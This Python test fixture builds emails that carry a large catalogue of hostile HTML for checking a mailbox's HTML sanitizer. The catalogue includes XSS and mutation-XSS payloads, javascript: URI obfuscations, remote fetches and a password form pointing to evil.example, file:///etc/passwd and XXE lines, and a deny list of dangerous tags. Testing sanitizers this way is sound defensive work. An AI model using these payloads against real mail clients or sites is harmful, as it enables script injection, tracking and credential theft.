"""Mails in HTML that want to run, fetch, hide or cover something."""

from collections.abc import Iterator

from tests.mailbox.making import WORDS, Claims, Made, mail, part, parts, plain

# None of it may stand in cleaned HTML.
NEVER = (
    "<script", "<img", "<style", "<svg", "<math", "<form", "<iframe", "<object", "<link", "<meta",
    "<base", " style=", " class=", " id=", "javascript:", "vbscript:", "data:", "<!--", "srcdoc",
    "formaction", "<input", "<button", "<video", "<audio",
)  # fmt: skip

_HTML = {
    "script": "<script>alert(1)</script>",
    "script_in_capitals": "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "script_split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script_with_slash": "<script/src=//evil.example/x></script>",
    "script_without_end": "<script>alert(1)",
    "script_nul": "<scr\0ipt>alert(1)</scr\0ipt>",
    "img_onerror": "<img src=x onerror=alert(1)>",
    "img_remote": "<img src=https://evil.example/pixel.gif>",
    "img_cid": "<img src=cid:abc>",
    "img_data": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "img_srcset": "<img srcset='//evil.example/a 1x'>",
    "image_tag": "<image src=x onerror=alert(1)>",
    "svg_onload": "<svg onload=alert(1)>",
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "svg_use": "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "svg_animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "svg_foreign": "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "math_href": "<math href=javascript:alert(1)>x</math>",
    "mxss_math_style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mxss_noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mxss_svg_style": "<svg><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "mxss_template": "<template><s><template><s><img src=x onerror=alert(1)>",
    "mxss_xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "mxss_textarea": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "mxss_select": "<select><template><style></select><img src=x onerror=alert(1)>",
    "mxss_form_twice": (
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>"
    ),
    "mxss_comment": "<!--><img src=x onerror=alert(1)>-->",
    "mxss_comment_bang": "<!--!><img src=x onerror=alert(1)>-->",
    "mxss_cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "style_tag": "<style>body{background:url(//evil.example)}</style>",
    "style_import": "<style>@import '//evil.example/x.css';</style>",
    "style_attribute": "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "style_expression": "<p style='width:expression(alert(1))'>x</p>",
    "class_of_ours": "<p class='button is-danger' id='main'>x</p>",
    "link_stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "base": "<base href=//evil.example/>",
    "meta_refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "iframe": "<iframe src=//evil.example></iframe>",
    "iframe_srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=//evil.example/x.swf></object>",
    "embed": "<embed src=//evil.example/x.swf>",
    "applet": "<applet code=x></applet>",
    "video_poster": "<video poster=//evil.example/x onloadstart=alert(1)><source src=x></video>",
    "audio": "<audio src=//evil.example/x autoplay onerror=alert(1)></audio>",
    "form": "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "form_action": "<button formaction=javascript:alert(1)>x</button>",
    "input_image": "<input type=image src=//evil.example/x onerror=alert(1)>",
    "isindex": "<isindex action=javascript:alert(1)>",
    "frameset": "<frameset><frame src=//evil.example></frameset>",
    "body_onload": "<body onload=alert(1) background=//evil.example/x>",
    "table_background": (
        "<table background=//evil.example/x><tr><td background=//evil.example>x</table>"
    ),
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "autofocus": "<p tabindex=1 autofocus onfocus=alert(1)>x</p>",
    "contenteditable": "<p contenteditable onblur=alert(1)>x</p>",
    "access_key": "<a accesskey=x onclick=alert(1) href=#>x</a>",
    "link_javascript": "<a href=javascript:alert(1)>x</a>",
    "link_javascript_mixed": "<a href=jAvAsCrIpT:alert(1)>x</a>",
    "link_javascript_tab": "<a href='java\tscript:alert(1)'>x</a>",
    "link_javascript_break": "<a href='java&#10;script:alert(1)'>x</a>",
    "link_javascript_entity": "<a href='&#106;avascript:alert(1)'>x</a>",
    "link_javascript_hex": "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "link_javascript_space": "<a href=' &#14; javascript:alert(1)'>x</a>",
    "link_vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "link_data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "link_file": "<a href='file:///etc/passwd'>x</a>",
    "link_smb": "<a href='smb://evil.example/x'>x</a>",
    "link_target": "<a href='https://evil.example' target=_self ping=//evil.example>x</a>",
    "conditional_comment": "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "comment_without_end": "x<!-- <p>",
    "processing": "<?php system('id'); ?><?xml-stylesheet href=//evil.example?>",
    "doctype": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "entities_endless": "&" * 20_000 + "&#" * 20_000,
    "entity_nul": "a&#0;b&#xD800;c&#x110000;",
    "tags_never_closed": "<table><tr><td><ul><li>" * 300,
    "tags_closed_only": "</p></div></table></blockquote></ul></a>" * 500,
    "quotes_200_deep": "<blockquote>" * 200 + "x",
    "lists_200_deep": "<ul><li>" * 200 + "x",
    "links_in_links": "<a href=https://a.example>" * 300 + "x",
    "attributes_2000": "<p " + " ".join(f"a{n}=b" for n in range(2_000)) + ">x",
    "attribute_without_end": "<p title='" + "a" * 50_000,
    "tag_without_end": "<p " + "a " * 25_000,
    "less_than_signs": "<" * 50_000,
    "custom_element": "<x-y onclick=alert(1) is=z>x</x-y>",
    "namespaced": "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>",
    "font_zero": "<font size=0 color=white>x</font>",
    "server_names": "<p data-hx-get=//evil.example hx-get=/x hx-trigger=load>x</p>",
}


def html_mails() -> Iterator[Made]:
    """Give the mails in HTML; the words stand in each of them behind the attack or before it."""
    for name, attack in _HTML.items():
        body = f"<p>{WORDS}</p>{attack}"
        yield (
            f"html_{name}",
            mail("Content-Type: text/html; charset=utf-8", body=body),
            Claims(says=WORDS, never=NEVER),
        )
    head, body = parts(plain(), part("text/html", "<script>x</script>"), kind="alternative")
    yield "html_beside_plain", mail(head, body=body), Claims(fresh=WORDS, never=NEVER)
    picture = part("image/png", "x", "Content-ID: <abc>", "Content-Disposition: inline")
    page = part("text/html", f"<p>{WORDS}</p><img src=cid:abc>")
    head, body = parts(page, picture, kind="related")
    yield (
        "html_with_cid",
        mail(head, body=body),
        Claims(says=WORDS, never=NEVER, files=("attachment-1.png",)),
    )
    utf16 = f"<p>{WORDS}</p><script>x</script>".encode("utf-16-le")
    yield (
        "html_utf16",
        mail("Content-Type: text/html; charset=utf-16le", body=utf16),
        Claims(says=WORDS, never=NEVER),
    )
    yield "html_empty", mail("Content-Type: text/html", body="<html><body></body></html>"), Claims()
    yield (
        "html_said_plain",
        mail("Content-Type: text/plain", body="<script>x</script>"),
        Claims(fresh="<script>x</script>"),
    )
    yield (
        "xhtml",
        mail("Content-Type: application/xhtml+xml", body="<script/>"),
        Claims(files=("attachment-1.bin",)),
    )
